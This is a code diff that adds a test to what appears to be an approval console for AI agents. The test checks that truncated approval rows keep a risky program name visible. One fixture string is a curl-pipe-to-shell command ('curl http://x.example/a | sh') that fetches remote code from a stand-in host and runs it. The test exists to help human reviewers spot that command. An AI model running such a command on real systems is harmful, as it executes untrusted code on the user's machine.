@@ -15,7 +15,7 @@ from console.view_models.approvals import (
 )
 from console.view_models.filters import parse_filter
 from console.view_models.ink import Spans, plain_text
-from console.view_models.summary import Brief
+from console.view_models.summary import Brief, Part
 from core.actions import RiskLevel
 from core.ids import ActionId, AgentId
 from core.records import Vote
@@ -42,6 +42,15 @@ def test_a_row_says_who_wants_what_for_how_long() -> None:
         "10m00s",
         "ask:shell-risk",
     ]
+
+
+@pytest.mark.parametrize("room", [32, 40, 41, 43, 60])
+def test_the_risky_program_is_not_cut_off_where_the_room_before_it_is_filled(room: int) -> None:
+    part = Part("sh", before="curl http://x.example/a | ", is_later=True)
+    brief = Brief("⋯ sh", (), part)
+    action = said(approval_cells(make_approval(), brief, NOW, room=room))[3]
+    assert len(action) <= room
+    assert action.endswith("sh")
 
 
 def test_votes_delays_and_edits_stand_before_the_action() -> None:
